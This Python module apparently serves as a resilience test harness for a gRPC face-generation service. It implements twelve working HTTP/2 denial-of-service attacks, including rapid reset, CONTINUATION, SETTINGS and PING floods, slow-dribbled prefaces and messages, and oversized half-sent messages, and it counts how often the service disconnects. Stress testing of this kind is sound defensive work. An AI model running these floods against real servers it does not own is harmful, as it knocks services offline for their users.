"""Twelve attacks on a gRPC port. Each goes on until `over`, and is begun anew where it is thrown out."""

from __future__ import annotations

import os
import time
from typing import TYPE_CHECKING

from .frames import (
    CONTINUATION,
    END_STREAM,
    FRAME_BYTES,
    NO_FLAGS,
    PING,
    RESET,
    Attacker,
    frame,
    message,
    settings,
)

if TYPE_CHECKING:
    from collections.abc import Callable

GENERATE = "/rosacea.v1.FaceService/GenerateFaces"
STREAM = "/rosacea.v1.FaceService/StreamFaces"
WATCH, LIST = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/List"
LARGE = 4 * 2**20 - 16  # of a message that is just small enough
STREAMS = 100
MANY = 500  # frames in one write


def idle(port: int, over: Callable[[], bool]) -> None:
    """Sockets that say nothing; always a hundred of them."""
    held = [Attacker(port) for _ in range(STREAMS)]
    while not over():
        held.append(Attacker(port))
        held.pop(0).socket.close()
        time.sleep(0.1)
    for each in held:
        each.socket.close()


def dribbled_preface(port: int, over: Callable[[], bool]) -> None:
    """A hundred sockets that begin HTTP/2 a byte at a time."""
    held = [Attacker(port) for _ in range(STREAMS)]
    text = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    position = 0
    while not over():
        for place, each in enumerate(held):
            try:
                each.send(text[position % len(text) :][:1])
            except OSError:
                each.socket.close()
                held[place] = Attacker(port)
        position += 1
        time.sleep(1.0)
    for each in held:
        each.socket.close()


def empty_streams(port: int, over: Callable[[], bool]) -> None:
    """As many calls as one connection may have, none of which ever sends its message."""
    with Attacker(port).greet() as attacker:
        while not over():
            for path in (GENERATE, STREAM, WATCH, LIST):
                attacker.send(b"".join(attacker.headers(path)[1] for _ in range(32)))
            attacker.listen(0.5)


def rapid_resets(port: int, over: Callable[[], bool]) -> None:
    """Calls that are given up as soon as they have begun."""
    with Attacker(port).greet() as attacker:
        while not over():
            opened = [attacker.headers(GENERATE) for _ in range(MANY)]
            attacker.send(b"".join(each + frame(RESET, stream=stream, payload=bytes(4)) for stream, each in opened))
            attacker.listen(0.01)


def settings_flood(port: int, over: Callable[[], bool]) -> None:
    """SETTINGS without end; their acknowledgements are never read."""
    with Attacker(port).greet() as attacker:
        while not over():
            attacker.send(settings(initial_window_size=65535, header_table_size=4096) * MANY)


def ping_flood(port: int, over: Callable[[], bool]) -> None:
    """Pings without end; the answers are never read."""
    with Attacker(port).greet() as attacker:
        while not over():
            attacker.send(frame(PING, payload=bytes(8)) * MANY)


def header_flood(port: int, over: Callable[[], bool]) -> None:
    """Calls with as many headers as are let in, and more."""
    with Attacker(port).greet() as attacker:
        number = 0
        while not over():
            extra = [(f"x-{number}-{each}", f"{number:07d}" * 10) for each in range(90)]
            attacker.send(attacker.headers(WATCH, extra)[1])
            attacker.listen(0.01)
            number += 1


def continuation_flood(port: int, over: Callable[[], bool]) -> None:
    """Headers that never end."""
    with Attacker(port).greet() as attacker:
        stream, opening = attacker.headers(GENERATE, flags=NO_FLAGS)
        attacker.send(opening)
        literal = b"\0\x01x\x7f\x81\x7e" + b"a" * 16_384
        while not over():
            attacker.send(frame(CONTINUATION, NO_FLAGS, stream, literal[:FRAME_BYTES]))
            time.sleep(0.001)


def unfinished_messages(port: int, over: Callable[[], bool]) -> None:
    """A hundred messages of 4 MiB but for their last byte, to calls that need credentials and to others."""
    with Attacker(port).greet() as attacker:
        for number in range(STREAMS):
            stream, opening = attacker.headers((GENERATE, WATCH, STREAM, LIST)[number % 4])
            attacker.send(opening)
            attacker.data(stream, message(b"\n" * (LARGE - 1), LARGE), patience=0.2)
            if over():
                return
        while not over():
            attacker.listen(0.5)


def dribbled_messages(port: int, over: Callable[[], bool]) -> None:
    """A hundred messages that grow by a few bytes a second."""
    with Attacker(port).greet() as attacker:
        opened = [attacker.headers((GENERATE, WATCH)[number % 2]) for number in range(STREAMS)]
        attacker.send(b"".join(each for _, each in opened))
        for stream, _ in opened:
            attacker.data(stream, message(b"", LARGE), patience=0.1)
        while not over():
            for stream, _ in opened:
                attacker.data(stream, b"\n" * 1024, patience=0.01)
            attacker.listen(0.5)


def long_watches(port: int, over: Callable[[], bool]) -> None:
    """Forty watches of health under names of 4 MB each, which are never given up."""
    with Attacker(port).greet() as attacker:
        name = b"x" * (LARGE - 16)
        request = b"\x0a" + _varint(len(name)) + name
        for _ in range(40):
            stream, opening = attacker.headers(WATCH)
            attacker.send(opening)
            attacker.data(stream, message(request), patience=0.2)
            attacker.send(frame(0, END_STREAM, stream))
            if over():
                return
        while not over():
            attacker.listen(0.5)


def unread_answers(port: int, over: Callable[[], bool]) -> None:
    """Answers that there is no window for, and that nobody reads."""
    with Attacker(port, initial_window_size=0).greet() as attacker:
        while not over():
            for _ in range(STREAMS):
                stream, opening = attacker.headers(LIST)
                attacker.send(opening + frame(0, END_STREAM, stream, message(b"")))
            time.sleep(0.5)


ATTACKS = (
    idle, dribbled_preface, empty_streams, rapid_resets, settings_flood, ping_flood, header_flood, continuation_flood,
    unfinished_messages, dribbled_messages, long_watches, unread_answers,
)  # fmt: skip


def repeat(attack: Callable[[int, Callable[[], bool]], None], port: int, seconds: float) -> int:
    """Attack for so long; how often the service hung up. It yields to the service, as if on another machine."""
    os.nice(15)
    end = time.monotonic() + seconds
    thrown_out = 0
    while time.monotonic() < end:
        try:
            attack(port, lambda: time.monotonic() >= end)
        except (OSError, EOFError):
            thrown_out += 1
            time.sleep(0.02)
    return thrown_out


def _varint(number: int) -> bytes:
    parts = []
    while number > 127:
        parts.append(number & 127 | 128)
        number >>= 7
    return bytes([*parts, number])
